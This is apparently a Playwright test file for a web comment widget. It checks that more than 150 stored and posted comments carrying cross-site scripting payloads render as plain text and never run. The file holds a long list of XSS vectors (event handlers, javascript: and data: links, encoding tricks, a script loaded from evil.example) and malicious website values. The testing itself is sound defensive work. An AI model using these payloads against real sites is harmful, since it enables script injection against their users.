"""Hostile comments in the widget: every payload item is rendered, and no script of theirs runs.

Two sets. The first is stored straight into the database, bypassing validation and the server's
sanitizer, so the payload is the name, the website *and* the raw body_html: the widget's own
defences (text-only names, http(s)-only links, its allow-list pass over body_html) are what is
tested. The second goes through the real POST endpoint, as an attacker would send it.
Detection: a sentinel function the payloads call (`__xss()`), and a dialog listener (`alert(1)`).
"""
from datetime import timedelta

from playwright.sync_api import expect

from app.client import email_hash
from app.clock import now
from app.extensions import db
from app.models import Comment, Status
from app.services import comments, threads

RUN = "__xss();alert(1)"
VECTORS = [
    "<script>{js}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror={js}>",
    '<img src="x" onerror="{js}">',
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributeName=x to=1>",
    '<svg><a xlink:href="javascript:{js}"><text y=20>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    '<iframe src="javascript:{js}"></iframe>',
    '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
    '<a href="javascript:{js}">click</a>',
    '<a href="JaVaScRiPt:{js}">click</a>',
    '<a href="&#106;avascript:{js}">click</a>',
    '<a href="jav&#x09;ascript:{js}">click</a>',
    '<a href=" javascript:{js}">click</a>',
    '<a href="data:text/html,<script>{js}</script>">click</a>',
    '<a href="vbscript:{js}">click</a>',
    "<body onload={js}>",
    "<details open ontoggle={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<object data=\"javascript:{js}\"></object>",
    "<embed src=\"javascript:{js}\">",
    '<form><button formaction="javascript:{js}">x</button></form>',
    "<marquee onstart={js}>x</marquee>",
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "<template><img src=x onerror={js}></template>",
    '<p style="background:url(javascript:{js})">styled</p>',
    '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    '<base href="javascript:{js}//">',
    '<link rel=stylesheet href="javascript:{js}">',
    "<div onmouseover={js}>hover</div>",
    "<b onclick={js}>bold</b>",
    '<blockquote cite="javascript:{js}">q</blockquote>',
    '<q cite="javascript:{js}" onmouseenter="{js}">q</q>',
    '"><script>{js}</script>',
    "'><img src=x onerror={js}>",
    '</textarea><script>{js}</script>',
    "</title><script>{js}</script>",
    "<!--<img src=x onerror={js}>-->",
    "<![CDATA[<script>{js}</script>]]>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    '<img src="x` `<script>{js}</script>"` `>',
    "<style>@import 'javascript:{js}';</style>",
    "<isindex type=image src=1 onerror={js}>",
    "javascript:{js}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "\u202e<script>{js}</script>",
    "<img src=x:alert(1) onerror=eval(src.slice(2).replace('alert(1)','{js}'))>",
]
WRAPPERS = ["{v}", "تعليق عادي {v} ثم نص", "{v}{v}"]
PAYLOADS = list(dict.fromkeys(w.format(v=v.format(js=RUN)) for v in VECTORS for w in WRAPPERS))
WEBSITES = ["javascript:{js}", "JAVASCRIPT:{js}", " javascript:{js}", "data:text/html,<script>{js}</script>",
            '"><script>{js}</script>', "https://ok.example/\" onmouseover=\"{js}", "//evil.example/",
            "vbscript:{js}", "java\tscript:{js}", "https://ok.example/<img src=x onerror={js}>"]
INIT = "window.__xssHits = 0; window.__xss = function () { window.__xssHits += 1; };"


def store_raw(app, key, payloads):
    """Rows as a careless writer might have left them: nothing validated, nothing sanitized."""
    with app.app_context():
        thread = threads.get_or_create(key)
        start = now() - timedelta(hours=1)
        for n, payload in enumerate(payloads):
            row = Comment(thread=thread, depth=0, name=payload[:245], email=f"x{n}@example.org",
                          email_hash=email_hash(f"x{n}@example.org"),
                          website=WEBSITES[n % len(WEBSITES)].format(js=RUN)[:200], body=payload,
                          body_html=payload, body_fingerprint=f"fp{n}", status=Status.PENDING,
                          created_at=start + timedelta(seconds=n), updated_at=start, decision={})
            db.session.add(row)
            db.session.flush()
            comments.change_status(row, Status.APPROVED)
        db.session.commit()


def open_all(live_server, page, key, expected):
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.add_init_script(INIT)
    live_server.article(page, key)
    more = page.locator("button.majlis-more")
    while more.is_visible():
        before = page.locator(".majlis-comment").count()
        more.click()
        expect(page.locator(".majlis-comment")).not_to_have_count(before)
    expect(page.locator(".majlis-comment")).to_have_count(expected)
    page.mouse.move(300, 300)  # hover handlers, if any survived
    page.wait_for_timeout(300)  # onerror/onload of anything that loaded
    return dialogs


def assert_nothing_ran(page, dialogs):
    assert page.evaluate("window.__xssHits") == 0
    assert dialogs == []
    found = page.evaluate("""() => {
      const box = document.querySelector('.majlis');
      const bad = [];
      for (const el of box.querySelectorAll('*')) {
        if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'STYLE', 'LINK', 'META', 'BASE', 'FORM', 'SVG',
             'svg', 'math', 'TEMPLATE'].includes(el.tagName) && !el.closest('.majlis-respond')) bad.push(el.tagName);
        for (const a of el.attributes) {
          if (/^on/i.test(a.name) || a.name === 'style' || a.name === 'srcdoc') bad.push(el.tagName + '@' + a.name);
          if (['href', 'src', 'cite', 'action', 'formaction'].includes(a.name) &&
              !/^(https?:|mailto:)/i.test(a.value)) bad.push(el.tagName + '@' + a.name + '=' + a.value);
        }
      }
      return bad;
    }""")
    assert found == []


def test_stored_payloads_render_as_text_and_never_run(live_server, page, thread_key):
    assert len(PAYLOADS) >= 150
    store_raw(live_server.app, thread_key, PAYLOADS)
    dialogs = open_all(live_server, page, thread_key, len(PAYLOADS))
    assert_nothing_ran(page, dialogs)
    names = page.locator(".majlis-comment .majlis-author").all_text_contents()
    assert names == [p[:245] for p in PAYLOADS]  # every name rendered, as the text it is
    hrefs = page.locator(".majlis-comment a.majlis-author").evaluate_all("els => els.map(e => e.href)")
    assert all(h.startswith("https://ok.example/") for h in hrefs)  # only the http(s) websites are links
    for link in page.locator(".majlis-comment a").all():
        assert link.get_attribute("rel") == "nofollow ugc noopener"
    avatars = page.locator("img").evaluate_all("els => els.map(e => e.src)")
    assert avatars and all(src.startswith(live_server.url + "/api/v1/avatars/") for src in avatars)


def test_posted_payloads_are_sanitized_and_never_run(live_server, page, thread_key):
    client = live_server.app.test_client()
    sent = 0
    for n, payload in enumerate(PAYLOADS[::3]):
        response = client.post(f"/api/v1/threads/{thread_key}/comments", json={
            "name": payload[:200].replace("\u202e", "") or "x", "email": f"p{n}@example.org",
            "body": f"{payload} #{n}", "website": "https://ok.example/p?q=%3Cx%3E"})
        assert response.status_code in (201, 422), response.get_json()
        sent += response.status_code == 201
    assert sent >= 40
    dialogs = open_all(live_server, page, thread_key, sent)
    assert_nothing_ran(page, dialogs)
    assert page.locator(".majlis-comment .majlis-author").count() == sent
